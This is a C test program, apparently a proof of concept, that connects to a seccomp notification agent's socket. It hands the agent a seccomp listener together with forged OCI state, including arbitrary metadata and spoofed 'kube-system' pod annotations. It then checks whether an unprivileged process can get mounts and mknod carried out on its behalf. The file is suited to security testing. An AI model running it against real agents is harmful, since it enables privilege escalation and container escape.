/*
 * user SOCKET DISK METADATA: a user of the socket makes its own user and pid namespaces, and hands over a listener of a
 * process in there, with metadata of its own choice. That process, without CAP_SYS_ADMIN, tries what the metadata
 * grants. Prints a line for each attempt with its result.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/capability.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define NOTIFY(call) BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, call, 0, 1), BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF)

static void fail(const char *what)
{
    perror(what);
    exit(1);
}

static int filter(void)
{
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        NOTIFY(SYS_mount),
        NOTIFY(SYS_umount2),
        NOTIFY(SYS_mknodat),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof code / sizeof *code, code};

    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &program);
}

static void write_file(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY);

    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        fail(path);
    close(fd);
}

static void send_fd(int to, const char *text, size_t size, int fd)
{
    char control[CMSG_SPACE(sizeof fd)] = {0};
    struct iovec iov = {(char *)text, size};
    struct msghdr message
        = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *rights = CMSG_FIRSTHDR(&message);

    rights->cmsg_level = SOL_SOCKET;
    rights->cmsg_type = SCM_RIGHTS;
    rights->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(rights), &fd, sizeof fd);
    if (sendmsg(to, &message, MSG_NOSIGNAL) < 0)
        fail("sendmsg");
}

static int take_fd(int from)
{
    char byte, control[CMSG_SPACE(sizeof(int))];
    struct iovec iov = {&byte, 1};
    struct msghdr message
        = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    int fd;

    if (recvmsg(from, &message, 0) != 1 || CMSG_FIRSTHDR(&message) == NULL)
        fail("recvmsg");
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    return fd;
}

static void report(const char *what, long result)
{
    printf("%s: %s\n", what, result < 0 ? strerror(errno) : "done");
}

static void be_root_of(const char *user, const char *group)
{
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];

    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", user);
    write_file("/proc/self/gid_map", group);
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 || mount("t", "/mnt", "tmpfs", 0, NULL) < 0
        || mkdir("/mnt/a", 0777) < 0)
        fail("a place to mount");
    syscall(SYS_capget, &header, data);
    data[0].effective &= ~(1u << CAP_SYS_ADMIN);
    data[0].permitted &= ~(1u << CAP_SYS_ADMIN);
    data[0].inheritable = data[1].inheritable = 0;
    prctl(PR_CAPBSET_DROP, CAP_SYS_ADMIN, 0, 0, 0);
    if (syscall(SYS_capset, &header, data) < 0)
        fail("capset");
}

static void attempt(const char *disk)
{
    report("mknod", mknodat(AT_FDCWD, "/mnt/null", S_IFCHR | 0666, makedev(1, 3)));
    report("disk", mount(disk, "/mnt/a", "ext4", 0, "ro"));
    report("sysfs", mount("sysfs", "/mnt/a", "sysfs", 0, NULL));
    report("proc", mount("proc", "/mnt/a", "proc", 0, NULL));
    report("tmpfs", mount("tmpfs", "/mnt/a", "tmpfs", 0, NULL));
    report("umount", umount2("/mnt/a", 0));
    fflush(stdout);
}

int main(int argc, char **argv)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int pair[2], pids[2], pid = 0;
    char state[4096], user[32], group[32], byte = 0;

    if (argc != 4 || socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 || pipe(pids) < 0)
        fail("usage");
    snprintf(user, sizeof user, "0 %d 1", getuid());
    snprintf(group, sizeof group, "0 %d 1", getgid());
    alarm(30);
    if (fork() == 0) {
        prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
            fail("unshare");
        be_root_of(user, group);
        pid = fork();
        if (pid == 0) {
            int listener = filter();
            if (listener < 0)
                fail("seccomp");
            send_fd(pair[1], "", 1, listener);
            close(listener);
            if (read(pair[1], &byte, 1) == 1)
                attempt(argv[2]);
            exit(0);
        }
        if (write(pids[1], &pid, sizeof pid) < 0)
            fail("pid");
        waitpid(pid, NULL, 0);
        exit(0);
    }
    if (read(pids[0], &pid, sizeof pid) != sizeof pid)
        fail("pid");
    int listener = take_fd(pair[0]);
    strncpy(address.sun_path, argv[1], sizeof address.sun_path - 1);
    int connection = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(connection, (struct sockaddr *)&address, sizeof address) < 0)
        fail("connect");
    int size = snprintf(state, sizeof state,
        "{\"ociVersion\":\"1.0.2\",\"fds\":[\"seccompFd\"],\"pid\":%d,\"metadata\":\"%s\",\"state\":{\"ociVersion\":"
        "\"1.0.2\",\"id\":\"mine\",\"status\":\"creating\",\"pid\":%d,\"bundle\":\"/\",\"annotations\":{"
        "\"io.kubernetes.pod.namespace\":\"kube-system\",\"io.kubernetes.pod.name\":\"other\"}}}", pid, argv[3], pid);
    send_fd(connection, state, (size_t)size, listener);
    close(listener);
    if (write(pair[0], "g", 1) != 1)
        fail("go");
    wait(NULL);
    return 0;
}
